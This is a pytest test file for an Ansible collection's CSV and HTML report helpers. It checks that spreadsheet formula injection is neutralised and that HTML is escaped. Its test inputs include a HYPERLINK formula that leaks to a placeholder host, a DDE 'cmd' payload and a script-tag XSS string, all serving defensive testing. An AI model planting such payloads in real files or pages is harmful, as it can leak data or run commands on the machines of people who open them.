"""CSV formula injection: OWASP's rule on every cell the collection writes (pure logic)."""
import csv
import io

import pytest

from ansible_collections.hybrid.identity.plugins.module_utils._csv_cells import safe_cell, safe_row
from ansible_collections.hybrid.identity.plugins.module_utils._report import merge_results, render_csv, render_html, summarize


@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("http://x.example/?leak","x")', '\'=HYPERLINK("http://x.example/?leak","x")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1 555 0100", "'+1 555 0100"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    (-5, "'-5"),
])
def test_formula_starts_get_a_quote(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.parametrize("value, expected", [
    ("Ann Lee", "Ann Lee"), ("a=b", "a=b"), ("x-y@z", "x-y@z"), (" =1", " =1"), ("'quoted", "'quoted"),
    ("", ""), (None, ""), (7, "7"), (True, "true"), (False, "false"), (b"bytes", "bytes"), ("Ren\u00e9", "Ren\u00e9"),
])
def test_other_cells_are_left_alone(value, expected):
    assert safe_cell(value) == expected


def test_safe_row():
    assert safe_row(["=1", "ok", None]) == ["'=1", "ok", ""]


def test_report_csv_cells_are_neutralised_and_html_escaped():
    names = ['=HYPERLINK("http://x.example/?leak","x")', "=cmd|' /C calc'!A0", "@a", "+b", "-c", "Plain"]
    users = [{"key": "u%d@x.com" % i, "upn": "u%d@x.com" % i, "name": n} for i, n in enumerate(names)]
    steps = [("ad", [{"upn": u["upn"], "action": "failed", "error": "=1+1 broke"} for u in users])]
    records = merge_results(users, steps)
    rows = list(csv.DictReader(io.StringIO(render_csv(records))))
    assert [r["name"] for r in rows] == ["'" + n for n in names[:-1]] + ["Plain"]
    assert all(r["reason"] == "ad: =1+1 broke" for r in rows)  # starts with "ad:", not a formula
    for row in rows:
        assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    html = render_html("t", [dict(records[0], name='<script>alert("x")</script>')], summarize(records))
    assert "<script>" not in html and "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in html
